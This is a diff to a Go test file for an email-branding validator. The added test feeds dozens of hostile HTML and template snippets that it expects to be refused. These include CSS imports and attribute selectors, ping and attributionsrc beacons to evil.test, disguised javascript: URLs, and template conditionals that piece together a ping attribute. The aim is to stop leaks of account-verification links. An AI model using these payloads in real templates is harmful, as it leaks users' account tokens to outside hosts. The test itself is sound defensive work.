@@ -1,6 +1,7 @@
 package brand_test
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -89,12 +90,48 @@ func TestALinkThatOpensAnAccountBecomesNoPartOfAnotherAddress(t *testing.T) {
 		`<a href="https://evil.test/?{{if .Brand.LogoURL}}>{{end}}{{.Values.link}}">x</a>`, `<a href="https://evil.test/?{{if .Brand.LogoURL}}" href="{{.Values.link}}{{end}}">`,
 		`<a href="https://evil.test/? {{.Values.link}} ">x</a>`, `<!-- {{.Values.link}} -->x`, `<a title=">{{.Values.link}}<" href="#">x</a>`, `<p {{.Values.link}} >x`, `{{.Values.link}}`,
 	} {
-		if err := (brand.Override{Subject: "x", Text: "{{.Values.link}}", HTML: markup}).Check(northwind, "verify_email"); err == nil {
-			t.Errorf("%s is accepted", markup)
-		} else {
-			testkit.WantFault(t, err, fault.ValidationError, "html")
+		refusesMarkup(t, markup)
+	}
+}
+
+// What browsers tell of a link, they do wherever it goes: with each of these some program tells another address of it.
+func TestNothingBesideALinkThatOpensAnAccountTellsOfIt(t *testing.T) {
+	t.Parallel()
+	const link = `<a href="{{.Values.link}}">x</a>`
+	for _, markup := range []string{
+		`<style>@import url(https://evil.test/x.css)</style>` + link, `<style>a[href*="token=a"] { background: url(https://evil.test/a) }</style>` + link, `<StYlE>x</StYlE>` + link,
+		`<a href="{{.Values.link}}" ping="https://evil.test">x</a>`, `<a href="{{.Values.link}}" attributionsrc="https://evil.test">x</a>`, `<a href="{{.Values.link}}" attributionsrc>x</a>`,
+		`<a href="{{.Values.link}}" referrerpolicy="unsafe-url">x</a>`, `<a href="{{.Values.link}}" download>x</a>`, `<a href="{{.Values.link}}" onfocus="x" autofocus>x</a>`,
+		`<a href="{{.Values.link}}" style="background:url(x); background:image-set(attr(href))">x</a>`, `<a href="{{.Values.link}}" style="--x:at\74r(href)">x</a>`,
+		`<a href="{{.Values.link}}" style="--x:&#97;ttr(href)">x</a>`, `<a href="{{.Values.link}}" style="color:if(style(--x:1):red)">x</a>`, `<a href="{{.Values.link}}" style="width:expression(x)">x</a>`,
+		`<a href="javascript:x">y</a>` + link, `<a href=" java&#10;script:x">y</a>` + link, `<a href="{{if .Brand.LogoURL}}https://a.test/{{else}}javascript:x{{end}}">y</a>` + link,
+		`<a href="{{if .Brand.LogoURL}}https{{else}}javascript{{end}}:x">y</a>` + link,
+		`<svg><a href="x"/></svg>` + link, `<link rel="stylesheet" href="https://evil.test">` + link, `<object data="x"></object>` + link, `<video src="x"></video>` + link, `<fencedframe></fencedframe>` + link,
+		// What two choices leave of an innocent word.
+		`<a {{if .Brand.LogoURL}}cells{{end}}p{{if .Brand.LogoURL}}ac{{end}}ing="https://evil.test" href="{{.Values.link}}">x</a>`,
+		`<a {{if .Brand.LogoURL}}title="x"{{end}} href="{{.Values.link}}">x</a>`, `<s{{if .Brand.LogoURL}}{{else}}tyle{{end}}>x</s>` + link, `<p{{.Brand.ProductName}}>` + link,
+	} {
+		refusesMarkup(t, markup)
+	}
+	for _, markup := range []string{
+		`<table width="100%" cellpadding="0" background="https://cdn.test/b.png"><tr><td align="center" style="background:url('https://cdn.test/b.png'); color:rgb(1, 2, 3)">` + link + `</td></tr></table>`,
+		`<p><img src="{{.Brand.LogoURL}}" alt="{{if .Brand.ProductName}}{{.Brand.ProductName}}{{else}}x{{end}}"><a href="mailto:{{.Brand.SupportAddress}}">Ask</a> <a href="{{.Brand.AppURL}}/help?at=10:30" target="_blank" rel="noopener">Help</a></p>` + link,
+		`{{if .Brand.LogoURL}}<h2 style="color:{{.Brand.AccentColor}}">Ahoi</h2>{{else}}<p>Ahoi</p>{{end}}` + link,
+	} {
+		if err := (brand.Override{Subject: "x", Text: "{{.Values.link}}", HTML: markup}).Check(northwind, "verify_email"); err != nil {
+			t.Errorf("%s is refused: %v", markup, err)
 		}
 	}
+}
+
+func refusesMarkup(t *testing.T, markup string) {
+	t.Helper()
+	err := brand.Override{Subject: "x", Text: "{{.Values.link}}", HTML: markup}.Check(northwind, "verify_email")
+	if err == nil {
+		t.Errorf("%s is accepted", markup)
+		return
+	}
+	testkit.WantFault(t, err, fault.ValidationError, "html")
 }
 
 // FuzzOverride looks for words that keep the rules and still fail to be written, or that put a link where it must not be.
@@ -103,6 +140,7 @@ func FuzzOverride(f *testing.F) {
 	f.Add("{{if eq .Brand.ProductName `x`}}a{{else}}b{{end}}", "a\n{{if .Values.link}}\n{{.Values.link}}\n{{end}}", `<a href="{{.Values.link}}">{{if not .Brand.LogoURL}}x{{else}}y{{end}}</a>`)
 	f.Add("x", "{{.Values.link}}", `<p>{{if and .Brand.LogoURL (ne .Brand.AppURL "x")}}<b> {{.Values.link}} </b>{{end}}</p>`)
 	f.Add("x", "{{- .Values.link -}}", `<img src='x href="{{.Values.link}}"'>`)
+	f.Add("x", "{{.Values.link}}", `<a {{if .Brand.LogoURL}}cells{{end}}p{{if .Brand.LogoURL}}ac{{end}}ing="https://evil.test" href="{{.Values.link}}">x</a>`)
 	f.Fuzz(func(t *testing.T, subject, text, markup string) {
 		override := brand.Override{Subject: subject, Text: text, HTML: markup}
 		if override.Check(northwind, "verify_email") != nil {
@@ -141,6 +179,9 @@ func wantLinkAlone(t *testing.T, markup string) {
 			return
 		}
 		token := tokens.Token()
+		if token.Data == "style" || slices.ContainsFunc(token.Attr, func(a html.Attribute) bool { return a.Key == "ping" }) {
+			t.Fatalf("there is %s", token)
+		}
 		for _, attribute := range token.Attr {
 			if strings.Contains(attribute.Val+attribute.Key, "SECRET") && (token.Data != "a" || attribute.Key != "href" || attribute.Val != "https://northwind.test/SECRET?token=t") {
 				t.Fatalf("%s has %s=%q", token.Data, attribute.Key, attribute.Val)
